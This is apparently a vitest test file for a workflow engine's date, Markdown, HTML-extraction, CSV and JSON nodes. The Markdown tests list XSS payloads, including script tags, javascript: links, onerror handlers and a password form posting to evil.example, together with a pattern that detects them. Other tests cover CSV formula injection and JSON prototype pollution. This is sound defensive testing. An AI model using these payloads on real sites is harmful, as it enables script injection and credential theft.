import { describe, expect, it } from 'vitest';
import type { Item } from '@/engine/workflow/schema';
import { callNode } from '@/tests/support/call-node';
import { nodeTypes } from '../registry.generated';

async function next(type: string, params: Record<string, unknown>, items: readonly object[] = [{}]): Promise<Item[]> {
  return (await callNode(nodeTypes[type]!, { params, items: items as Item[] })).next!;
}

describe('Date and time', () => {
  const date = async (params: Record<string, unknown>, item: object = {}) =>
    (await next('core.date-time', { ...params, as: 'x' }, [item]))[0]!.x;

  it.each([
    ['2026-03-02T08:00:00Z', 'dd.MM.yyyy HH:mm', '02.03.2026 09:00'],
    ['2026-03-02 08:00', 'iso', '2026-03-02T08:00:00.000+01:00'],
    ['Mon, 02 Mar 2026 08:00:00 GMT', 'time', '09:00'],
    [1772438400, 'unix', 1772438400],
    ['today', 'date', '2026-03-02'],
    ['yesterday', 'cccc', 'Sunday'],
  ])('writes %s as %s in Berlin', async (value, format, written) => {
    expect(await date({ date: value, format, timeZone: 'Europe/Berlin' })).toBe(written);
  });

  it('speaks other languages, and reads what is written in an unusual way', async () => {
    expect(await date({ date: '2026-03-02', format: 'cccc, d. LLLL', locale: 'de' })).toBe('Montag, 2. März');
    expect(await date({ date: '02/03/2026', inputFormat: 'MM/dd/yyyy', format: 'date' })).toBe('2026-02-03');
    expect(await date({ date: '3. März 2026', inputFormat: 'd. MMMM yyyy', locale: 'de', format: 'date' })).toBe(
      '2026-03-03',
    );
  });

  it('keeps to the clock on the wall when the clocks change, and to the end of short months', async () => {
    const berlin = { timeZone: 'Europe/Berlin', format: "yyyy-MM-dd'T'HH:mm" };
    expect(await date({ operation: 'add', date: '2026-03-28T12:00', amount: 1, unit: 'days', ...berlin })).toBe(
      '2026-03-29T12:00',
    );
    expect(await date({ operation: 'add', date: '2026-03-28T12:00', amount: 24, unit: 'hours', ...berlin })).toBe(
      '2026-03-29T13:00',
    );
    expect(await date({ operation: 'add', date: '2026-01-31', amount: 1, unit: 'months', format: 'date' })).toBe(
      '2026-02-28',
    );
    expect(await date({ operation: 'subtract', date: '2024-02-29', amount: 1, unit: 'years', format: 'date' })).toBe(
      '2023-02-28',
    );
    expect(await date({ operation: 'end-of', date: '2024-02-10', unit: 'months' })).toBe('2024-02-29T23:59:59.999Z');
    expect(await date({ operation: 'start-of', date: '2026-03-04', unit: 'weeks', format: 'date' })).toBe('2026-03-02');
  });

  it('counts between two dates, full units or decimals, backwards too', async () => {
    const between = (from: string, to: string, more: object) =>
      date({ operation: 'difference', date: from, to, ...more });
    expect(await between('2026-03-01', '2026-03-02T12:00', {})).toBe(1);
    expect(await between('2026-03-01', '2026-03-02T12:00', { whole: false })).toBe(1.5);
    expect(await between('2026-03-02', '2026-03-01T13:00', { unit: 'hours' })).toBe(-11);
    expect(await between('2026-03-01T20:00', '2026-03-02', {})).toBe(0);
    expect(await between('2026-01-31', '2026-02-28', { unit: 'months' })).toBe(1);
  });

  it('refuses what could mean two things, and nothing at all', async () => {
    for (const value of ['02.03.2026', '2026', 'soon', true, ['2026-03-02']])
      await expect(date({ date: value })).rejects.toMatchObject({
        code: 'node.data_wrong',
        details: { param: 'date' },
      });
    await expect(date({ date: '{{ item.due }}' }, { due: null })).rejects.toThrow(/empty/);
    await expect(date({ operation: 'add', date: '2026-03-02', amount: 9e15, unit: 'years' })).rejects.toThrow(
      /too far/,
    );
  });

  it('asks for what an operation needs', () => {
    const problem = (params: object) => nodeTypes['core.date-time']!.params.safeParse(params).error?.issues[0]?.message;
    expect(problem({ operation: 'add', unit: 'days' })).toBe('Say how many.');
    expect(problem({ operation: 'start-of' })).toMatch(/which unit/);
    expect(problem({ timeZone: 'Berlin' })).toMatch(/Europe\/Berlin/);
  });
});

describe('Markdown', () => {
  const convert = async (direction: string, text: string) =>
    (await next('core.markdown', { direction, text: '{{ item.t }}', as: 'x' }, [{ t: text }]))[0]!.x as string;

  it('writes tables, tasks, code and links as HTML', async () => {
    const html = await convert(
      'to-html',
      '| a | b |\n|---|:-:|\n| 1 | 2 |\n\n- [x] done\n\n```js\n1 < 2\n```\n\n~~old~~ <https://example.com>',
    );
    expect(html).toContain('<td align="center">2</td>');
    expect(html).toContain('<input checked disabled type="checkbox" />');
    expect(html).toContain('<code class="language-js">1 &lt; 2');
    expect(html).toContain('<del>old</del> <a href="https://example.com">');
  });

  it.each([
    '<script>alert(1)</script>x',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert`1`)',
    '[x](&#106;avascript:alert(1))',
    '![x](data:text/html;base64,PHNjcmlwdD4=)',
    '<img src=x onerror=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe src="https://example.com"></iframe>',
    '<a href="//evil.example" onclick="x()">x</a>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<style>*{background:url(https://evil.example)}</style>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<p style="position:fixed">x</p>',
  ])('lets nothing of %s run, load or ask', async hostile => {
    const html = await convert('to-html', `before ${hostile}\n\n${hostile}\n\nafter`);
    expect(html).not.toMatch(
      /<script|javascript:|onerror=|onclick=|<iframe|<svg|<form|<input|<style|style=|data:text|href="\/\//i,
    );
    expect(html).toContain('before');
  });

  it('writes HTML as Markdown, with tables and without what nobody reads', async () => {
    const html =
      '<head><title>T</title></head><h2>News</h2><script>x()</script><p>It <b>works</b>, <a href="https://a.b">see</a>.</p>' +
      '<ul><li>one</li></ul><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2 | 3<br>4</td></tr></tbody></table>';
    expect(await convert('to-markdown', html)).toMatchInlineSnapshot(`
      "## News

      It **works**, [see](https://a.b).

      -   one

      | a | b |
      | --- | --- |
      | 1 | 2 \\| 3 4 |"
    `);
  });

  it('says so when a text is too long or nested too deep', async () => {
    await expect(convert('to-html', 'a'.repeat(1_000_001))).rejects.toThrow(/1000001/);
    await expect(convert('to-markdown', '<div>'.repeat(1_000))).rejects.toThrow(/nested/);
    await expect(convert('to-html', '> '.repeat(1_000))).rejects.toThrow(/nested/);
    expect(await convert('to-markdown', '<p>a<br><img src=x>'.repeat(500))).toContain('a');
  });
});

describe('Extract from HTML', () => {
  const page = `<title>Shop</title><main><div class="p"><h2> Big
    chair<br>red</h2><a href="/chair?a=1&amp;b=2">x</a><i>4</i><i>5</i></div>
    <div class="p"><h2>Desk <script>var a = "no"</script></h2></div></main>`;
  const extract = (params: object) =>
    next('core.html-extract', { html: '{{ item.body }}', ...params }, [{ id: 1, body: page }]);
  const fields = [
    { name: 'title', selector: 'h2' },
    { name: 'link', selector: 'a', take: 'attribute', attribute: 'href' },
    { name: 'stars', selector: 'i', list: true },
  ];

  it('gives one item for each row, null for what is not there, and whole addresses', async () => {
    expect(await extract({ rows: '.p', fields, baseUrl: 'https://shop.example/list/' })).toEqual([
      { title: 'Big chair red', link: 'https://shop.example/chair?a=1&b=2', stars: ['4', '5'] },
      { title: 'Desk', link: null, stars: [] },
    ]);
  });

  it('reads the page as a whole, keeps other fields, and takes what stands inside', async () => {
    const inside = [
      { name: 'first', selector: '.p i', take: 'html' },
      { name: 'all', selector: 'title' },
    ];
    const [item] = await extract({ fields: inside, keep: 'all' });
    expect(item).toEqual({ id: 1, body: page, first: '4', all: 'Shop' });
  });

  it('takes the row itself without a selector, and gives nothing where no row fits', async () => {
    expect(await extract({ rows: 'i', fields: [{ name: 'n' }] })).toEqual([{ n: '4' }, { n: '5' }]);
    expect(await extract({ rows: '.none', fields })).toEqual([]);
  });

  it('says which selector is none', async () => {
    const failing = extract({
      fields: [
        { name: 'a', selector: 'h2' },
        { name: 'b', selector: 'a[' },
      ],
    });
    await expect(failing).rejects.toMatchObject({
      code: 'node.params_invalid',
      details: { param: 'fields.1.selector' },
    });
  });
});

describe('CSV', () => {
  const read = (text: unknown, more: object = {}) =>
    next('core.read-csv', { text: '{{ item.t }}', ...more }, [{ t: text }]);

  it('finds what stands between cells, and keeps quotes, lines and signs within them', async () => {
    expect(await read('\uFEFFname;note\r\n"Ada; B.";"two\nlines ""x"""\r\n')).toEqual([
      { name: 'Ada; B.', note: 'two\nlines "x"' },
    ]);
    expect(await read('a\tb\n1,5\tx')).toEqual([{ a: '1,5', b: 'x' }]);
    expect(await read('"a,b,c";d\n1;2')).toEqual([{ 'a,b,c': 1, d: 2 }]);
  });

  it('makes numbers only of columns that hold nothing else', async () => {
    const text = 'n,zip,phone,big,mixed,empty\n1.50,01234,+49 1,12345678901234567890,3,\n-2,80331,5,1,x,\n';
    expect(await read(text)).toEqual([
      { n: 1.5, zip: '01234', phone: '+49 1', big: '12345678901234567890', mixed: '3', empty: null },
      { n: -2, zip: '80331', phone: '5', big: '1', mixed: 'x', empty: null },
    ]);
    expect((await read(text, { numbers: false }))[0]).toMatchObject({ n: '1.50', empty: '' });
  });

  it('names columns without a name and with one that is taken, and fills short rows', async () => {
    expect(await read('a,,a\n1,2,3\n4')).toEqual([
      { a: 1, column_2: 2, a_2: 3 },
      { a: 4, column_2: null, a_2: null },
    ]);
    expect(await read('x,y', { header: false })).toEqual([{ column_1: 'x', column_2: 'y' }]);
    expect(await read('')).toEqual([]);
  });

  it('reads files, also of older programs', async () => {
    const latin = Buffer.from('name\nJürgen', 'latin1').toString('base64');
    expect(await read({ name: 'a.csv', type: 'text/csv', size: 11, base64: latin })).toEqual([{ name: 'Jürgen' }]);
    expect(await read(`data:text/csv;base64,${latin}`)).toEqual([{ name: 'Jürgen' }]);
    expect(await read({ name: 'a.csv', type: 'text/csv', size: 3, text: 'a\n1' })).toEqual([{ a: 1 }]);
    await expect(read({ name: 'a.csv', size: 3 })).rejects.toMatchObject({ details: { param: 'text' } });
  });

  it('names the line that has too many cells, or a quote that never ends', async () => {
    await expect(read('a,b\n1,2\n1,2,3')).rejects.toThrow(/Line 3/);
    await expect(read('a,b\n1,"2')).rejects.toThrow(/not closed/);
  });

  it('writes what it can read again, and makes formulas harmless where asked', async () => {
    const rows = [
      { id: 1, note: 'a "b", c\nd' },
      { note: '=1+1', more: { x: 1 } },
    ];
    const [item] = await next('core.make-csv', { fileName: 'x.csv' }, rows);
    const file = item!.file as Item;
    expect(file).toMatchObject({ name: 'x.csv', type: 'text/csv', size: Buffer.byteLength(file.text as string) });
    expect(await read(file, { numbers: false })).toEqual([
      { id: '1', note: 'a "b", c\nd', more: '' },
      { id: '', note: '=1+1', more: '{"x":1}' },
    ]);
    const [safe] = await next(
      'core.make-csv',
      { columns: ['note'], delimiter: ';', forSpreadsheets: true },
      rows.slice(1),
    );
    expect((safe!.file as Item).text).toBe("\uFEFFnote\n'=1+1\n");
  });
});

describe('JSON', () => {
  const read = (text: unknown, more: object = {}) =>
    next('core.read-json', { text: '{{ item.t }}', ...more }, [{ t: text }]);

  it('reads lists, objects, plain values, lines, and what a model puts in a fence', async () => {
    expect(await read('[{"a":1},2]')).toEqual([{ a: 1 }, { value: 2 }]);
    expect(await read(' {"a":[1]} ')).toEqual([{ a: [1] }]);
    expect(await read('"x"')).toEqual([{ value: 'x' }]);
    expect(await read('{"a":1}\n\n{"a":2}\n')).toEqual([{ a: 1 }, { a: 2 }]);
    expect(await read('```json\n{"a":1}\n```')).toEqual([{ a: 1 }]);
    expect(await read('{"d":{"l":[{"a":1}]}}', { itemsPath: 'd.l' })).toEqual([{ a: 1 }]);
    expect(await read({ d: [{ a: 1 }] }, { itemsPath: 'd' })).toEqual([{ a: 1 }]);
  });

  it('says where it cannot be read', async () => {
    await expect(read('{\n  "a": 1,\n  "b": }\n')).rejects.toThrow(/line 3, character 8/);
    await expect(read('{"a": 1')).rejects.toThrow(/line 1, character 8/);
    await expect(read('  ')).rejects.toThrow(/empty/);
    await expect(read('<html>')).rejects.toMatchObject({ code: 'node.data_wrong' });
    await expect(read('{"list":[]}', { itemsPath: 'lists' })).rejects.toMatchObject({ details: { nearest: 'list' } });
  });

  it('does not let a text reach a prototype', async () => {
    const [item] = await read('{"__proto__":{"polluted":true}}');
    expect(Reflect.get({}, 'polluted')).toBeUndefined();
    expect(Object.keys(item!)).toEqual(['__proto__']);
  });

  it('writes all items, lines, or one value', async () => {
    const make = async (params: Record<string, unknown>) =>
      ((await next('core.make-json', params, [{ a: 1 }, { a: 2 }]))[0]!.file as Item).text;
    expect(await make({ form: 'lines' })).toBe('{"a":1}\n{"a":2}\n');
    expect(await make({ value: { n: '{{ item.a }}' } })).toBe('{\n  "n": 1\n}\n');
  });
});
